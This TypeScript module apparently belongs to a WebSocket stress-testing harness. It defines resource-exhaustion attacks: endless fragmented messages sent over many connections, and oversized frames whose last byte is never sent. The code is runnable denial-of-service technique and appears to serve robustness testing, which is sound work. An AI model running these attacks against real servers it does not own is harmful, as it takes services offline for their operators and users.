/**
 * Attacks with messages that never end.
 *
 * @module
 */
import { rawFrame } from "../../helpers/raw_client.ts";
import type { Attack } from "../attack.ts";
import { crowd, drip, flood } from "../crowd.ts";

const FIRST_TEXT = 0x01;
const CONTINUATION = 0x00;
const FRAGMENT_BYTES = 65_536;
const SLOW_MS = 1000 * FRAGMENT_BYTES / 1_000_000;
const SECONDS = 20;
const WAVE_MS = 1500;

function createFragments(count: number, isFast: boolean): Attack {
  const sockets = count === 1 ? "one connection" : `${count} connections`;
  return {
    name: `endless fragments, ${sockets}, ${isFast ? "fast" : "slow"}`,
    does: `sends one message of fragments without an end on ${sockets}, ${
      isFast ? "as fast as TCP takes it" : "1 MB/s each"
    }`,
    held: !isFast,
    takesPlaces: true,
    seconds: SECONDS,
    waveMs: WAVE_MS,
    run: (attacker) =>
      crowd(attacker, { count }, async (socket) => {
        await socket.write(rawFrame(FIRST_TEXT, '{"'));
        const fragment = rawFrame(CONTINUATION, "x".repeat(FRAGMENT_BYTES));
        if (isFast) await flood(attacker, socket, fragment);
        else await drip(attacker, { socket, bytes: fragment, everyMs: SLOW_MS });
      }),
  };
}

function createHalfFrames(count: number, mebibytes: number): Attack {
  return {
    name: `half-sent frames of ${mebibytes} MiB`,
    does: `sends a frame of ${mebibytes} MiB but for its last byte, on ${count} connections`,
    held: false,
    takesPlaces: true,
    waveMs: WAVE_MS,
    run: (attacker) =>
      crowd(attacker, { count }, async (socket) => {
        const { length } = rawFrame(FIRST_TEXT | 0x80, new Uint8Array(FRAGMENT_BYTES));
        const head = rawFrame(FIRST_TEXT | 0x80, new Uint8Array(FRAGMENT_BYTES))
          .slice(0, length - FRAGMENT_BYTES);
        new DataView(head.buffer).setBigUint64(2, BigInt(mebibytes * 1024 * 1024));
        await socket.write(head);
        const part = new Uint8Array(FRAGMENT_BYTES).fill(120);
        const parts = mebibytes * 1024 * 1024 / FRAGMENT_BYTES;
        for (let sent = 1; sent < parts; sent++) await socket.write(part);
        await socket.write(part.slice(1));
      }),
  };
}

/** Attacks with messages that never end. */
export const FRAGMENT_ATTACKS: readonly Attack[] = [
  createFragments(1, true),
  createFragments(20, true),
  createFragments(1, false),
  createFragments(20, false),
  createHalfFrames(300, 1),
  createHalfFrames(40, 63),
];
